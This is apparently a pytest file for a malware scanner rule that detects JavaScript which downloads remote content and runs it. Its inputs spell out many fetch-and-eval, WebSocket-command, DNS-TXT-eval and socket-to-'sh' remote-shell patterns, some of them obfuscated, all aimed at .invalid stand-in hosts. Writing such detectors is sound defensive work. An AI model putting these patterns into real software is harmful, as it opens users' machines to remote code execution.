"""Answers of the network that are run. Payloads are inert: hosts end in .invalid."""

import pytest

from tests.flows import findings_of, worst
from vscan.model import Severity
from vscan.providers.offline.checks.network_code import CHECK
from vscan.providers.offline.manifest_values import Purpose

RULE = "network-code"
START = """
const https = require("https"), vm = require("vm"), cp = require("child_process");
const url = "https://a.invalid/s";
"""


@pytest.mark.parametrize(
    "source",
    [
        "fetch(url).then((r) => r.text()).then((t) => eval(t));",
        "fetch(url).then((r) => r.text()).then(eval);",
        "fetch(url).then((r) => r.text()).then(Function).then((f) => f());",
        "fetch(url).then((r) => r.text()).then(globalThis['ev' + 'al'].bind(null));",
        "https.get(url, (r) => r.on('data', eval));",
        "async function f() { setTimeout(eval, 9, await (await fetch(url)).text()); }",
        "fetch(url).then((r) => r.json()).then((j) => new Function(j.code)());",
        "async function f() { const r = await fetch(url); (0, eval)(await r.text()); }",
        "async function f() { const { data } = await require('axios').get(url); eval(data); }",
        """https.get(url, (r) => { let s = ""; r.on("data", (d) => (s += d));
           r.on("end", () => vm.runInThisContext(s)); });""",
        """https.get(url, (r) => { const l = []; r.on("data", (d) => l.push(d));
           r.on("end", () => new vm.Script(Buffer.concat(l).toString()).runInThisContext()); });""",
        """https.get(url, (r) => { let s = ""; r.on("data", (d) => (s += d));
           r.on("end", () => module._compile(Buffer.from(s, "hex").toString(), "a.js")); });""",
        """const get = (u) => new Promise((done) => https.get(u, (r) => { let s = "";
           r.on("data", (d) => (s += d)); r.on("end", () => done(s)); }));
           const run = globalThis["ev" + "al"]; get(url).then((t) => run(t));""",
        "const w = new WebSocket('wss://a.invalid'); w.onmessage = (m) => eval(m.data);",
        "const w = new WebSocket('wss://a.invalid'); w.on('message', (m) => cp.exec(`${m}`));",
        """class Channel { #ws; open() { this.#ws = new WebSocket('wss://a.invalid');
           this.#ws.addEventListener('message', (e) => this.#on(JSON.parse(e.data))); }
           async #on({ id, type }) { vm.runInThisContext("(" + type + ")")(id); } }""",
        "require('dns').resolveTxt('a.invalid', (e, r) => eval(atob(r.flat().join(''))));",
        "fetch(url).then((r) => r.text()).then((t) => setTimeout(t, 10));",
        "fetch(url).then((r) => r.text()).then((t) => cp.exec(t));",
        "fetch(url).then((r) => r.text()).then((t) => cp.spawn('sh', ['-c', t]));",
        "fetch(url).then((r) => r.text()).then((t) => cp.spawnSync(process.execPath, ['-e', t]));",
        "fetch(url).then((r) => r.text()).then((t) => import('data:text/javascript,' + t));",
        """class L { async load() { this.code = await (await fetch(url)).text(); }
           run() { return Function("require", this.code)(require); } }""",
        """const sh = cp.spawn("sh"); const s = require("net").connect(1, "a.invalid");
           s.pipe(sh.stdin);""",
        """const f = () => __awaiter(this, void 0, void 0, function* () {
           const r = yield fetch(url); eval(yield r.text()); });""",
        (
            "fetch(url).then((r) => r.text()).then((t) => require('vscode').window"
            ".createTerminal().sendText(t));"
        ),
    ],
)
def test_an_answer_that_is_run_is_found(source: str) -> None:
    assert worst(findings_of(CHECK, START + source), RULE) >= Severity.HIGH


def test_what_a_page_sends_is_found_when_it_is_run() -> None:
    source = "view.webview.onDidReceiveMessage((m) => eval(m.code));"
    assert worst(findings_of(CHECK, source), RULE) is Severity.HIGH


@pytest.mark.parametrize(
    "source",
    [
        "fetch(url).then((r) => r.text()).then((t) => show(t));",
        "fetch(url).then((r) => r.json()).then((j) => JSON.parse(j.text));",
        "eval('1 + 1'); fetch(url);",
        "function eval2(t) { return t; } fetch(url).then((r) => r.text()).then(eval2);",
        "const eval = (t) => t.length; fetch(url).then((r) => r.text()).then((t) => eval(t));",
        "fetch(url).then((r) => r.text()).then((t) => cp.execFile('git', ['commit', '-m', t]));",
        "fetch(url).then(() => cp.exec('git status'));",
        "fetch(url).then((r) => setTimeout(() => show(r), 10));",
        "setTimeout(done, 10, 'x'); fetch(url).then((r) => setTimeout(show, 10, r));",
        "fetch(url).then((r) => r.text()).then((t) => new RegExp(t).exec('x'));",
        "fetch(url).then((r) => { if (r.status === 200) eval('ready()'); });",
        "new Function('return this')(); fetch(url).then((r) => r.text());",
        "vm.runInNewContext(require('fs').readFileSync(file, 'utf8')); fetch(url);",
        "// fetch(url).then((r) => r.text()).then(eval);",
        "show('fetch(url).then((r) => r.text()).then(eval)');",
        # What is piped into an archiver, or comes from this machine.
        (
            "function unpack(program, input) { const child = cp.spawn(program, ['-x']);"
            " input.pipe(child.stdin); } https.get(url, (r) => unpack('tar', r));"
        ),
        (
            "const s = require('net').connect({ host: '127.0.0.1', port });"
            " const child = cp.spawn(debugged, []); s.pipe(child.stdin);"
        ),
    ],
)
def test_a_near_miss_is_not_found(source: str) -> None:
    assert worst(findings_of(CHECK, START + source), RULE) < Severity.MEDIUM


def test_the_message_has_the_source_and_the_finding_the_line_of_the_sink() -> None:
    source = """\
async function load() {
  const answer = await fetch('https://a.invalid/s');
  const text = await answer.text();
  eval(text);
}
"""
    (finding,) = findings_of(CHECK, source)
    assert "fetch https://a.invalid/s (line 2)" in finding.message
    assert (finding.line, finding.offset) == (4, source.index("eval"))
    assert finding.evidence == "eval(text)"


def test_a_program_in_a_text_is_examined_too() -> None:
    source = 'const a = 1;\nnew Function("fetch(u).then((r) => r.text()).then((t) => eval(t))")();'
    (finding,) = findings_of(CHECK, source)
    assert finding.line == 2


@pytest.mark.parametrize(
    "source",
    [
        "fetch('../../vs/loader.js').then((r) => r.text()).then((t) => eval(t));",
        """const xhr = new XMLHttpRequest(); xhr.open("GET", source);
           xhr.onload = () => eval(xhr.responseText);""",
    ],
)
def test_what_only_pages_can_do_is_less_in_a_library(source: str) -> None:
    """Node has no XMLHttpRequest, and its fetch takes no relative address."""
    assert worst(findings_of(CHECK, source), RULE) == Severity.CRITICAL
    for purpose in (Purpose.COMMAND, Purpose.LIBRARY):
        assert worst(findings_of(CHECK, source, purpose=purpose), RULE) == Severity.MEDIUM


@pytest.mark.parametrize("address", ["https://a.invalid/s", "//a.invalid/s", "...", "./"])
def test_what_node_can_do_is_critical_in_a_library(address: str) -> None:
    source = f"require('got')('{address}').then((t) => eval(t.body));"
    if not address.startswith("./"):
        source += f"fetch('{address}').then((r) => r.text()).then((t) => eval(t));"
    for purpose in set(Purpose) - {Purpose.FILES}:
        assert worst(findings_of(CHECK, source, purpose=purpose), RULE) == Severity.CRITICAL
    found = findings_of(CHECK, source, purpose=Purpose.FILES)  # nothing starts it
    assert worst(found, RULE) == Severity.MEDIUM


@pytest.mark.parametrize("program", ["'sh'", "process.env.SHELL", "name"])
def test_a_connection_that_is_piped_into_a_program_is_found(program: str) -> None:
    piped = f"const child = cp.spawn({program}); https.get(url, (r) => r.pipe(child.stdin));"
    assert worst(findings_of(CHECK, START + piped), RULE) == Severity.CRITICAL
